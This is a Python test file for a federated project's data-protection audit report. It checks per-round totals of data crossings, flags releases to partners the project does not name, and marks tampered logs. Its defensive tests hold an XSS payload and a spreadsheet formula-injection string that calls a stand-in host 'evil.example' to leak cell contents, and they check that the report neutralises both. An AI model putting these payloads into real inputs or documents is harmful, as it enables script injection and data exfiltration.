"""The DPO report: what crossed, per log and as both sides logged it, named against the project;
written as CSV and HTML, from a real federated round, and opened in headless Chromium."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from oda_fed.audit import AuditLog, read_entries
from oda_fed.audit.dpo import CSV_COLUMNS, render_csv, render_html, write_report_files
from oda_fed.audit.report import NOT_RECORDED, CrossingTotal, dpo_report, summarise_dir
from oda_fed.config import load_project
from oda_fed.errors import AuditError

EXAMPLE_PROJECT = Path(__file__).resolve().parents[2] / "coordinator" / "project.example.toml"
HOSTILE = "<script>alert('xss')</script><img src=x onerror=alert(2)>"


@pytest.fixture(scope="module")
def example():
    return load_project(EXAMPLE_PROJECT)


def _both_sides(folder: Path, project: str, entries: list[dict]) -> None:
    """Log every entry in the sender's and the recipient's logs, as an honest federation does;
    an entry with ``only`` is logged by that party alone."""
    parties = sorted({p for e in entries for p in (e["sender"], e["recipient"])})
    logs = {p: AuditLog(folder / f"{p}.jsonl", party=p) for p in parties}
    try:
        for e in entries:
            spec = dict(e)
            only = spec.pop("only", None)
            payload = spec.pop("payload", f"{spec['kind']} {spec.get('detail')}".encode())
            for party in (only,) if only else (spec["sender"], spec["recipient"]):
                logs[party].append(project=project, payload=payload, **spec)
    finally:
        for log in logs.values():
            log.close()


def _crossing(sender: str, recipient: str, kind: str, *, records: int = 0, round_id: str = "r1",
              **detail: object) -> dict:  # fmt: skip
    return {"sender": sender, "recipient": recipient, "kind": kind, "records": records,
            "round_id": round_id, "detail": detail}  # fmt: skip


def _round(round_id: str) -> list[dict]:
    return [
        _crossing("council", "coordinator", "clk_chunk", records=400, round_id=round_id),
        _crossing("police", "coordinator", "clk_chunk", records=300, round_id=round_id),
        _crossing(
            "council",
            "coordinator",
            "attribute_chunk",
            records=400,
            round_id=round_id,
            attribute="ward",
            chunk=0,
        ),  # fmt: skip
        _crossing("coordinator", "council", "entity_chunk", records=400, round_id=round_id),
        _crossing(
            "council",
            "coordinator",
            "local_table",
            records=31,
            round_id=round_id,
            product="council_caseload_by_ward",
        ),  # fmt: skip
        _crossing(
            "coordinator",
            "council",
            "instruction:product_release",
            round_id=round_id,
            product="known_to_services_by_ward",
        ),  # fmt: skip
        _crossing(
            "coordinator",
            "police",
            "instruction:product_release",
            round_id=round_id,
            product="known_to_services_by_ward",
        ),  # fmt: skip
    ]


@pytest.fixture
def federation_logs(tmp_path: Path, example) -> Path:
    """Two rounds between the council, the police and the coordinator, under the example
    project; in the second the coordinator also sends the police the map, which the project
    gives to the council and the coordinator only."""
    folder = tmp_path / "audit"
    leak = _crossing("coordinator", "police", "instruction:product_release", round_id="r2",
                     product="known_to_several_services_map")  # fmt: skip
    _both_sides(folder, example.fingerprint, [*_round("r1"), *_round("r2"), leak])
    return folder


def test_each_log_is_totalled_per_round_direction_kind_and_subject(
    tmp_path: Path, write_log
) -> None:
    path = write_log(tmp_path / "council.jsonl", 5)  # council sends 0, 2, 4; receives 1, 3
    (summary,) = summarise_dir(tmp_path)
    assert summary.log.ok and summary.log.path == path
    entries = read_entries(path)
    size = {e.seq: e.bytes for e in entries}
    assert [(c.sender, c.kind, c.messages, c.records, c.bytes) for c in summary.by_direction()] == [
        ("coordinator", "instruction:encode", 2, 10 + 30, size[1] + size[3]),
        ("council", "clk_chunk", 3, 0 + 20 + 40, size[0] + size[2] + size[4]),
    ]
    first = summary.crossings[0]
    assert first == CrossingTotal(
        project=entries[0].project, round="r1", sender="council", recipient="coordinator",
        kind="clk_chunk", messages=3, records=60, bytes=size[0] + size[2] + size[4],
        first=entries[0].time, last=entries[4].time,
    )  # fmt: skip


def test_resends_and_discarded_messages_are_counted_apart_not_added_again(
    tmp_path: Path, project: str
) -> None:
    chunk = _crossing("council", "coordinator", "clk_chunk", records=100)
    _both_sides(tmp_path, project, [
        {**chunk, "payload": b"chunk 0"},
        {**chunk, "payload": b"chunk 0", "detail": {"resend": True}},
        {**chunk, "payload": b"chunk 1", "detail": {"discarded": True}, "only": "coordinator"},
        {**chunk, "payload": b"chunk 1"},
    ])  # fmt: skip
    report = dpo_report(tmp_path)
    (sent,) = report.clk_uploads
    assert (sent.messages, sent.resends, sent.records, sent.bytes) == (2, 1, 200, 14)
    coordinator = next(s for s in report.logs if s.log.party == "coordinator")
    (received,) = coordinator.crossings
    assert (received.messages, received.resends, received.discarded, received.records) == (
        2, 1, 1, 200,
    )  # fmt: skip
    assert not sent.disputed and report.warnings == []


def test_the_report_names_the_project_rounds_attributes_products_and_recipients(
    federation_logs: Path, example
) -> None:
    report = dpo_report(federation_logs, project=example)
    assert report.project is example and report.fingerprints == {example.fingerprint: 30}
    assert [r.round for r in report.rounds] == ["r1", "r2"]
    assert report.span == (report.rounds[0].first, report.rounds[1].last)
    (ward,) = report.attributes
    assert (ward.sender, ward.subject, ward.records, ward.rounds) == ("council", "ward", 800,
                                                                      ("r1", "r2"))  # fmt: skip
    (table,) = report.local_tables
    assert (table.sender, table.subject, table.records) == ("council", "council_caseload_by_ward",
                                                           62)  # fmt: skip
    assert [(u.sender, u.rounds, u.records) for u in report.clk_uploads] == [
        ("council", ("r1",), 400), ("council", ("r2",), 400),
        ("police", ("r1",), 300), ("police", ("r2",), 300),
    ]  # fmt: skip
    assert [(e.recipient, e.rounds, e.records) for e in report.entity_ids] == [
        ("council", ("r1",), 400), ("council", ("r2",), 400),
    ]  # fmt: skip
    by_product = {r.product: r for r in report.products}
    counts = by_product["known_to_services_by_ward"]
    assert [m.recipient for m in counts.received] == ["council", "police"]
    assert counts.declared == ("council", "police", "social_care", "coordinator")
    assert counts.undeclared == ()
    # The attack: a product sent to a partner the project does not name is flagged.
    leaked = by_product["known_to_several_services_map"]
    assert leaked.declared == ("council", "coordinator") and leaked.undeclared == ("police",)
    assert any("known_to_several_services_map was released to police" in w
               for w in report.warnings)  # fmt: skip
    # social_care handed in no log: said, not silently passed over.
    assert any(w.startswith("no log from social_care") for w in report.warnings)


def test_releases_logged_without_their_product_read_not_recorded(tmp_path: Path, example) -> None:
    _both_sides(tmp_path, example.fingerprint, [
        _crossing("coordinator", "council", "instruction:product_release"),
        _crossing("coordinator", "stranger", "instruction:product_release"),
    ])  # fmt: skip
    (release,) = dpo_report(tmp_path, project=example).products
    assert release.product == NOT_RECORDED
    # Which product is unknown, so only a recipient no product names can be flagged.
    assert release.undeclared == ("stranger",)
    page = render_html(dpo_report(tmp_path, project=example))
    assert "(not recorded)" in page and "not named by the project" in page


def test_entries_under_another_fingerprint_are_warned_of(tmp_path: Path, example) -> None:
    other = "sha256:" + "9" * 64
    _both_sides(tmp_path, example.fingerprint, _round("r1"))
    _both_sides(tmp_path / "old", other, [_crossing("council", "coordinator", "clk_chunk",
                                                    records=5, round_id="r0")])  # fmt: skip
    report = dpo_report(tmp_path, project=example)
    assert report.fingerprints == {example.fingerprint: 14, other: 2}
    assert any(w.startswith(f"2 entries are under project {other}") for w in report.warnings)
    # Without the project the report cannot say which is right, and says there are two.
    assert any("2 project fingerprints" in w for w in dpo_report(tmp_path).warnings)


def test_a_failed_log_is_shown_failed_and_its_figures_as_claims(
    federation_logs: Path, example
) -> None:
    # The attack: the council inflates what its log says it sent, without fixing the chain.
    path = federation_logs / "council.jsonl"
    path.write_bytes(path.read_bytes().replace(b'"records":400', b'"records":4', 1))
    report = dpo_report(federation_logs, project=example)
    assert [s.log.party for s in report.failed] == ["council"]
    assert report.warnings[0].startswith("council.jsonl (party council) FAILED verification")
    first = report.clk_uploads[0]
    assert first.sender == "council" and first.records == 4 and first.claimed and first.disputed
    police = next(u for u in report.clk_uploads if u.sender == "police")
    assert not police.claimed and not police.disputed
    page = render_html(report)
    assert 'id="failed"' in page and "1 log(s) FAILED verification" in page
    assert '<span class="claim">claim</span>' in page
    rows = list(csv.DictReader(io.StringIO(render_csv(report))))
    assert {r["log_verified"] for r in rows if r["log_party"] == "council"} == {"FAILED"}
    assert {r["log_verified"] for r in rows if r["log_party"] == "police"} == {"yes"}


def test_a_crossing_one_side_rewrote_or_left_out_is_marked(tmp_path: Path, project: str) -> None:
    _both_sides(tmp_path, project, [
        _crossing("council", "coordinator", "clk_chunk", records=10),
        {**_crossing("council", "coordinator", "attribute_chunk", records=10, attribute="ward"),
         "only": "council"},
    ])  # fmt: skip
    report = dpo_report(tmp_path)
    assert [f.disputed for f in report.flows] == [False, True]
    assert any("missing from one side's log" in w for w in report.warnings)


def test_refusals_deletions_and_operator_acts_are_reported(tmp_path: Path, project: str) -> None:
    with AuditLog(tmp_path / "coordinator.jsonl", party="coordinator") as log:
        for _ in range(3):
            log.append(sender="mallory", recipient="coordinator", kind="refused:hello",
                       project=project, detail={"reason": "not a partner"})  # fmt: skip
        log.append(sender="council", recipient="coordinator", kind="refused:clk_upload",
                   project=project, round_id="r1", detail={"reason": "round is closed"})  # fmt: skip
        log.append(sender="operator", recipient="coordinator", kind="operator:start_round",
                   project=project, round_id="r1", detail={"deadline": "2026-01-02T00:00:00Z"})  # fmt: skip
        log.append(sender="coordinator", recipient="coordinator", kind="retention:clks_deleted",
                   project=project, round_id="r1", records=700, detail={"clk_days": 30})  # fmt: skip
    report = dpo_report(tmp_path)
    assert [(c.kind, c.count, c.reasons) for c in report.refusals] == [
        ("refused:clk_upload", 1, (("round is closed", 1),)),
        ("refused:hello", 3, (("not a partner", 3),)),
    ]
    assert [(a.kind, a.sender, a.detail) for a in report.operator] == [
        ("operator:start_round", "operator", (("deadline", "2026-01-02T00:00:00Z"),))
    ]
    assert [(a.kind, a.round, a.detail) for a in report.retention] == [
        ("retention:clks_deleted", "r1", (("clk_days", "30"),))
    ]
    page = render_html(report)
    for shown in ("refused:hello", "not a partner (3)", "operator:start_round",
                  "retention:clks_deleted", "clk_days: 30"):  # fmt: skip
        assert shown in page


def test_the_csv_has_a_row_per_log_round_direction_kind_and_subject(
    federation_logs: Path, example
) -> None:
    rows = list(csv.DictReader(io.StringIO(render_csv(dpo_report(federation_logs)))))
    assert tuple(rows[0]) == CSV_COLUMNS
    ward = [r for r in rows if r["attribute"] == "ward"]
    assert [(r["log_party"], r["round"], r["sender"], r["records"]) for r in ward] == [
        ("coordinator", "r1", "council", "400"), ("coordinator", "r2", "council", "400"),
        ("council", "r1", "council", "400"), ("council", "r2", "council", "400"),
    ]  # fmt: skip
    assert all(r["log_file"] in ("coordinator.jsonl", "council.jsonl", "police.jsonl")
               for r in rows)  # fmt: skip


def test_a_hostile_detail_cannot_become_a_spreadsheet_formula_or_markup(
    tmp_path: Path, project: str
) -> None:
    # The attack: a party writes its own log, with a formula and markup where a name should be.
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    _both_sides(tmp_path, project, [
        _crossing("council", "coordinator", "attribute_chunk", records=1, attribute=formula),
        _crossing("council", "coordinator", "local_table", records=1, product=HOSTILE),
        _crossing("council", "coordinator", "attribute_chunk", records=1, attribute="-1+2"),
    ])  # fmt: skip
    report = dpo_report(tmp_path)
    cells = [r["attribute"] for r in csv.DictReader(io.StringIO(render_csv(report)))]
    assert "'" + formula in cells and "'-1+2" in cells
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
    page = render_html(report)
    assert HOSTILE not in page and "<script" not in page.lower()
    assert "&lt;script&gt;alert(&#39;xss&#39;)&lt;/script&gt;" in page


def test_the_report_is_not_written_over_a_log_nor_half_written(
    federation_logs: Path, tmp_path: Path
) -> None:
    report = dpo_report(federation_logs)
    log = federation_logs / "council.jsonl"
    before = log.read_bytes()
    with pytest.raises(AuditError, match="is one of the audit logs read"):
        write_report_files(report, html=tmp_path / "r.html", csv_path=log)
    assert log.read_bytes() == before and not (tmp_path / "r.html").exists()
    (tmp_path / "taken").mkdir()
    with pytest.raises(AuditError, match="cannot write"):
        write_report_files(report, csv_path=tmp_path / "taken")
    written = write_report_files(report, html=tmp_path / "out" / "r.html",
                                 csv_path=tmp_path / "out" / "r.csv")  # fmt: skip
    assert [p.name for p in written] == ["r.html", "r.csv"]


# --- a real round, the page in a browser ------------------------------------------------------


@pytest.mark.grpc
def test_the_report_of_a_real_round_names_what_left_and_runs_nothing(
    federation, open_page, tmp_path: Path
) -> None:
    status = federation.run_round()
    assert status.state.value == "closed", status.message
    federation.stop_coordinator()
    workdir = federation.workdir
    council_log = workdir / "nodes" / "council" / "audit" / "council.jsonl"
    # The attack: the council writes its own log, with markup where an attribute's name goes.
    with AuditLog(council_log, party="council") as log:
        log.append(sender="council", recipient="coordinator", kind="attribute_chunk",
                   project=federation.fingerprint, round_id=status.round_id, records=1,
                   payload=b"x", detail={"attribute": HOSTILE})  # fmt: skip
    loaded = load_project(workdir / "project.toml")
    report = dpo_report(workdir, project=loaded)
    paths = write_report_files(report, html=tmp_path / "dpo.html", csv_path=tmp_path / "dpo.csv")

    coordinator_log = workdir / "coordinator" / "audit" / "coordinator.jsonl"
    entries = [json.loads(line) for line in coordinator_log.read_text().splitlines()]
    released = {(e["detail"].get("product", NOT_RECORDED), e["recipient"]) for e in entries
                if e["kind"] == "instruction:product_release" and e["party"] == "coordinator"}  # fmt: skip
    shared = {(e["sender"], e["detail"]["attribute"]) for e in entries
              if e["kind"] == "attribute_chunk"}  # fmt: skip
    assert released and shared

    page = open_page(paths[0])
    page.assert_clean()  # nothing fetched, no error, no alert: the hostile detail did not run
    assert page.page.eval_on_selector_all("script", "els => els.length") == 0
    assert all(complete and width > 0 for complete, width in page.images())  # the chart drew
    assert loaded.project.title in page.page.inner_text("h1")
    assert loaded.fingerprint in page.page.inner_text("#project")
    attributes = page.page.inner_text("#attributes")
    for partner, attribute in shared:
        assert partner in attributes and attribute in attributes
    assert HOSTILE in attributes  # shown as text, for the DPO to see
    products = page.page.inner_text("#products")
    for product, recipient in released:
        assert product in products and recipient in products
    assert "not named by the project" not in products
    assert status.round_id in page.page.inner_text("#rounds")
    for table in ("#clk-uploads", "#entity-ids", "#logs"):
        for partner in federation.partners:
            assert partner in page.page.inner_text(table)
    assert "verified" in page.page.inner_text("#logs")

    rows = list(csv.DictReader(paths[1].open()))
    assert {r["log_party"] for r in rows} == {"coordinator", *federation.partners}
    assert {(r["sender"], r["attribute"]) for r in rows if r["kind"] == "attribute_chunk"} >= shared
